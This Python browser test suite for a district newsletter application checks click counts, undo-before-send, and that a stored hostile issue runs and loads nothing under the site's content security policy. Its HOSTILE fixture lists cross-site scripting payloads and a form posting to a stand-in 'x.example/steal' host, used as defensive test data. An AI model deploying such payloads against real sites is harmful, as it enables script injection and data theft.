"""A district's monthly newsletter from the calendar to the readers, in few clicks; and what no reader's
browser runs, whatever somebody wrote into an issue."""

import re
import time

import pytest
import time_machine
from flask_security import hash_password
from playwright.sync_api import expect

from app import periodic_jobs
from dissemination.delivery.sending import deliver_due
from dissemination.kernel.database import db, transaction
from dissemination.newsletters.models import Issue
from tests import factories
from tests.browser.conftest import serious_findings
from tests.journeys.conftest import app, mailbox  # noqa: F401 (fixtures: the application that posts)
from tests.newsletters import cast

PASSWORD = "una-lunga-parola-di-prova"
MOST_CLICKS = 12
# A person's seconds (Card, Moran and Newell's keystroke-level model): to decide, point and press; for a
# letter; and what we allow for looking at each page. The machine's own time is measured.
CLICK, KEY, READ = 1.35 + 1.1 + 0.2, 0.28, 15


def work():
    """One round of the worker."""
    for _seconds, job in periodic_jobs():
        job()
    deliver_due()


class Hand:
    """Clicks and keys, counted as a person would count them."""

    def __init__(self, page):
        self.page, self.clicks, self.typed, self.pages = page, 0, 0, 0
        page.on("framenavigated", lambda frame: self.turn() if frame == page.main_frame else None)

    def turn(self):
        self.pages += 1

    def click(self, name, role="button"):
        self.page.locator("main").get_by_role(role, name=name).first.click()
        self.clicks += 1

    def write(self, field, words):
        self.page.locator(f"main [name='{field}']").fill(words)
        self.clicks += 1
        self.typed += len(words)


@pytest.fixture
def spring(moda, ada):
    """The second of March 2027, a Tuesday; three workshops and a publication to tell of, and three readers."""
    with time_machine.travel("2027-03-02 09:00 +0000", tick=False) as clock:
        with transaction():
            ada.password = hash_password(PASSWORD)
            topic = cast.topic(moda, "Tessile", name_en="Textiles", sector_id=moda.sectors[0].id)
            for name, language in (("gina", "it"), ("ugo", "it"), ("zoe", "en")):
                cast.subscriber(moda, topic, email=f"{name}@example.org", language=language)
            for day in (11, 18, 25):
                factories.workshop(
                    moda, starts_at=factories.DAY.replace(day=day), title=f"Filati di marzo, {day}"
                )
            cast.publication(moda)
        yield clock


def signed_in(page):
    page.goto("/login")
    page.locator("main [name='email']").fill("ada@moda.example")
    page.locator("main [name='password']").fill(PASSWORD)
    page.locator("main").get_by_role("button", name="Accedi", exact=True).first.click()
    page.wait_for_url(lambda url: "/login" not in url)


@pytest.mark.browser
def test_the_monthly_newsletter_takes_few_clicks(page, spring, mailbox, record_property):  # noqa: F811
    signed_in(page)
    page.goto("/moda/desk/newsletters/")
    hand, began = Hand(page), time.perf_counter()
    hand.click("Componi dal calendario", "link")
    assert serious_findings(page) == []
    hand.click("Componi")
    page.wait_for_url(re.compile(r"/newsletters/\d+"))
    expect(page.locator("main")).to_contain_text("Filati di marzo, 25")
    hand.click("Controlla e invia", "link")
    expect(page.locator("main")).to_contain_text("Prima dell'invio")
    assert serious_findings(page) == []
    hand.click(re.compile("^Invia a 3 persone"))
    expect(page.locator("main h1")).to_have_text("In partenza")
    assert serious_findings(page) == []
    seconds = time.perf_counter() - began + hand.clicks * CLICK + hand.typed * KEY + hand.pages * READ
    print(f"\nmonthly newsletter: {hand.clicks} clicks, {hand.typed} characters typed, {seconds:.0f} seconds")
    record_property("clicks", hand.clicks)
    record_property("seconds", round(seconds))
    assert hand.clicks <= MOST_CLICKS
    assert hand.typed <= 200
    assert seconds < 120

    work()
    assert mailbox.received == [], "nothing leaves for a minute"
    spring.shift(61)
    for _ in range(3):
        work()
        spring.shift(20)
    assert sorted(to[0] for _f, to, _r in mailbox.received) == [
        "gina@example.org", "ugo@example.org", "zoe@example.org",
    ]  # fmt: skip
    db.session.rollback()
    issue = db.session.scalars(db.select(Issue)).one()
    assert issue.finished_at is not None
    page.goto(f"/moda/desk/newsletters/{issue.id}")
    expect(page.locator("#progress")).to_contain_text("3 su 3 hanno un esito definitivo")
    assert serious_findings(page) == []
    for path in ("recipients", "outcome"):
        page.goto(f"/moda/desk/newsletters/{issue.id}/{path}")
        assert serious_findings(page) == []


@pytest.mark.browser
def test_undo_counts_down_and_works(page, spring, moda, mailbox):  # noqa: F811
    signed_in(page)
    page.goto("/moda/desk/newsletters/")
    hand = Hand(page)
    hand.click("Componi dal calendario", "link")
    hand.click("Componi")
    hand.click("Controlla e invia", "link")
    hand.click(re.compile("^Invia a 3 persone"))
    expect(page.locator("#departure")).to_contain_text(re.compile("Non parte nulla per altri (60|59|58)"))
    hand.click("Annulla: di nuovo una bozza")
    spring.shift(3600)
    work()
    assert mailbox.received == []


HOSTILE = """
<script>parent.document.title='broken'; window.ran = 1</script>
<img src=x onerror="window.ran = 2"><svg onload="window.ran = 3"><a href="javascript:window.ran=4">qui</a>
<iframe srcdoc="<script>parent.ran=5</script>"></iframe><object data="data:text/html,<script>parent.ran=6</script>"></object>
<form action="https://x.example/steal"><input name=q><button>Invia</button></form>
<meta http-equiv="refresh" content="0;url=https://x.example/"><base href="https://x.example/">
<style>@import url(https://x.example/a.css); body { background: url(https://x.example/b.png) }</style>
<link rel="stylesheet" href="https://x.example/c.css"><p style="background:url(https://x.example/d.png)">Parole</p>
<img src="https://x.example/pixel.gif" alt="Un pixel"><video src="https://x.example/v.mp4" autoplay></video>
"""


@pytest.mark.browser
@pytest.mark.parametrize("where", ["archive", "desk"])
def test_a_hostile_issue_runs_nothing_and_loads_nothing(
    chromium_browser, page, spring, moda, ada, site, where
):
    """The HTML is put where the program keeps what it sent, as if every check before had failed."""
    with transaction():
        topic = cast.topic(moda, "Ostile")
        cast.subscriber(moda, topic)
        issue = cast.issue(moda, topic, by=ada)
    cast.send(issue, by=ada)
    with transaction():
        frozen = dict(issue.frozen["it"])
        frozen["html"] = f"<!doctype html><html><head><title>x</title></head><body>{HOSTILE}</body></html>"
        issue.frozen = {"it": frozen}
    slug, issue_id = issue.slug, issue.id
    if where == "archive":
        frame, outer = f"/moda/newsletters/{slug}/content", f"/moda/newsletters/{slug}"
    else:
        signed_in(page)
        frame, outer = f"/moda/desk/newsletters/{issue_id}/preview/it", f"/moda/desk/newsletters/{issue_id}"
    context = chromium_browser.new_context(base_url=site, storage_state=page.context.storage_state())
    other = context.new_page()
    asked, ran = [], []
    other.on("request", lambda r: asked.append(r) if "x.example" in r.url else None)
    other.on("console", lambda m: ran.append(m.text) if m.text.startswith("ran") else None)
    for address in (outer, frame):
        other.goto(address)
        other.wait_for_load_state("networkidle")
        for each in other.frames:
            assert each.url.startswith((site, "about:")), each.url
        assert "broken" not in other.title()
        assert other.evaluate("window.ran") is None
    # What the policy blocks never reaches the network; Chromium says so of each.
    assert [r.url for r in asked if r.failure != "csp"] == []
    # The control: the same HTML without our headers does run and load in this browser.
    bare = context.new_page()
    staying = re.sub(r"<meta[^>]*>", "", HOSTILE)
    bare.route("**/*", lambda route: route.fulfill(body=staying, content_type="text/html")
               if route.request.url.startswith(site) else route.abort())  # fmt: skip
    tried = []
    bare.on("request", lambda r: tried.append(r.url) if "x.example" in r.url else None)
    bare.goto("/bare", wait_until="commit")
    bare.wait_for_function("window.ran !== undefined")
    assert tried != []
    context.close()
